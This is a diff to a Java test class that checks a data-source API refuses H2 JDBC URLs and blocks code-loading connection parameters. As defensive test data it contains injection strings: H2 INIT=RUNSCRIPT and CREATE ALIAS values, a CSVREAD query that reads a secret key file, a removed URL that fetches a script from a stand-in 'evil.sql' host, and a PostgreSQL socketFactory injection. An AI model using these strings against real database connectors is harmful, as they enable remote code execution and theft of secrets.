@@ -9,12 +9,16 @@ import dev.lookout.audit.AuditLog;
 import dev.lookout.audit.AuditLog.AuditEntry;
 import dev.lookout.security.SecretCipher;
 import dev.lookout.security.SecretNotOpened;
+import dev.lookout.testsupport.DataSourceRows;
 import dev.lookout.testsupport.TestPostgres;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
+import tools.jackson.databind.node.ObjectNode;
 
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.logging.LogLevel;
@@ -84,6 +88,10 @@ class DataSourceApiTest {
 		assertThat(source.get("version").asLong()).isZero();
 		assertThat(source.get("createdAt").asString()).matches("\\d{4}-\\d{2}-\\d{2}T[0-9:.]+Z");
 
+		// Saving connected: the account was reviewed (the test user owns its database, so it can write).
+		assertThat(source.get("check").get("ok").asBoolean()).isTrue();
+		assertThat(source.get("check").get("warnings").get(0).asString()).startsWith("the account can write");
+		((ObjectNode) source).remove("check");
 		assertThat(body(call(HttpMethod.GET, "/api/datasources/" + id, null))).isEqualTo(source);
 		assertThat(body(call(HttpMethod.GET, "/api/datasources", null)).valueStream()
 			.map((each) -> each.get("name").asString())).contains(name);
@@ -104,17 +112,36 @@ class DataSourceApiTest {
 		assertThat(call(HttpMethod.DELETE, "/api/datasources/" + id, null)).hasStatus(404);
 	}
 
+	/** H2 runs inside Lookout: whatever the spelling, an admin cannot add one, and nothing is stored. */
+	@ParameterizedTest
+	@ValueSource(strings = { "jdbc:h2:mem:reports", "jdbc:h2:file:/tmp/lookout-any", "jdbc:h2:zip:/tmp/x.zip!/db",
+			"jdbc:h2:tcp://127.0.0.1:9092/~/db", "jdbc:h2:mem:x;\\INIT=RUNSCRIPT FROM 'x'", "jdbc:h2:./data/lookout",
+			"jdbc:h2:MEM:x;In\\it=CREATE ALIAS" })
+	void h2SourcesAreRefusedWithTheWayToARealDatabase(String jdbcUrl) throws Exception {
+		Map<String, Object> h2 = postgres(Fixtures.uniqueName("h2"));
+		h2.put("jdbcUrl", jdbcUrl);
+		h2.put("username", "sa");
+		MvcTestResult refused = call(HttpMethod.POST, "/api/datasources", h2);
+		assertThat(refused).hasStatus(400);
+		assertThat(body(refused).get("detail").asString()).contains("H2 data sources are not allowed",
+				"jdbc:postgresql://host:5432/database");
+		assertThat(body(call(HttpMethod.GET, "/api/datasources", null)).valueStream()
+			.map((each) -> each.get("name").asString())).doesNotContain((String) h2.get("name"));
+	}
+
+	/** A source stored before H2 was refused is never opened: marked refused, its queries answered with why. */
 	@Test
-	void h2SourceWorksThroughTheApi() throws Exception {
-		Map<String, Object> h2 = new HashMap<>(Map.of("name", Fixtures.uniqueName("h2"), "jdbcUrl",
-				"jdbc:h2:mem:ds_api_h2;DB_CLOSE_DELAY=-1", "username", "sa", "poolSize", 1, "queryTimeoutMs", 2000,
-				"rowLimit", 10));
-		JsonNode source = body(call(HttpMethod.POST, "/api/datasources", h2));
-		assertThat(source.get("kind").asString()).isEqualTo("h2");
-		assertThat(source.get("passwordSet").asBoolean()).isFalse();
-		JsonNode result = body(call(HttpMethod.POST, "/api/query",
-				Map.of("dataSourceId", source.get("id").asLong(), "sql", "SELECT 1 AS one, 'x' AS letter")));
-		assertThat(result.get("rows").toString()).isEqualTo("[[1,\"x\"]]");
+	void anH2SourceStoredBeforeTheRuleIsRefusedNotOpened() throws Exception {
+		long id = DataSourceRows.insert(this.jdbc, Fixtures.uniqueName("old-h2"), "jdbc:h2:mem:ds_api_old", "sa");
+		JsonNode listed = body(call(HttpMethod.GET, "/api/datasources/" + id, null));
+		assertThat(listed.get("refusal").asString()).startsWith("H2 data sources are not allowed");
+		MvcTestResult query = call(HttpMethod.POST, "/api/query",
+				Map.of("dataSourceId", id, "sql", "SELECT * FROM CSVREAD('data/secret.key')"));
+		assertThat(query).hasStatus(409);
+		assertThat(body(query).get("code").asString()).isEqualTo("DATASOURCE_REFUSED");
+		JsonNode check = body(call(HttpMethod.POST, "/api/datasources/" + id + "/test", null));
+		assertThat(check.get("ok").asBoolean()).isFalse();
+		assertThat(check.get("refused").asBoolean()).isTrue();
 	}
 
 	@Test
@@ -190,16 +217,16 @@ class DataSourceApiTest {
 		JsonNode problem = body(result);
 		assertThat(problem.get("code").asString()).isEqualTo("VALIDATION_FAILED");
 		assertThat(problem.get("detail").asString()).contains("name is required",
-				"jdbcUrl must start with jdbc:h2:, jdbc:postgresql:, jdbc:mariadb:, jdbc:mysql:, but starts with 'jdbc:oracle:'",
+				"jdbcUrl must start with jdbc:postgresql:, jdbc:mariadb:, jdbc:mysql:, but starts with 'jdbc:oracle:'",
 				"poolSize must be between 1 and 50, but was 0",
 				"queryTimeoutMs must be between 1000 and 300000 ms, but was 500",
 				"rowLimit must be between 1 and 100000, but was 100001")
 			.doesNotContain("tiger");
 
 		Map<String, Object> codeLoading = postgres(Fixtures.uniqueName("evil"));
-		codeLoading.put("jdbcUrl", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.org/evil.sql'");
+		codeLoading.put("jdbcUrl", "jdbc:postgresql://127.0.0.1/x?socketFactory=org.example.Evil");
 		assertThat(body(call(HttpMethod.POST, "/api/datasources", codeLoading)).get("detail").asString())
-			.contains("must not set the parameter 'init'");
+			.contains("must not set the parameter 'socketFactory'");
 		assertThat(body(call(HttpMethod.GET, "/api/datasources", null)).valueStream()
 			.map((each) -> each.get("name").asString())).doesNotContain((String) codeLoading.get("name"));
 	}
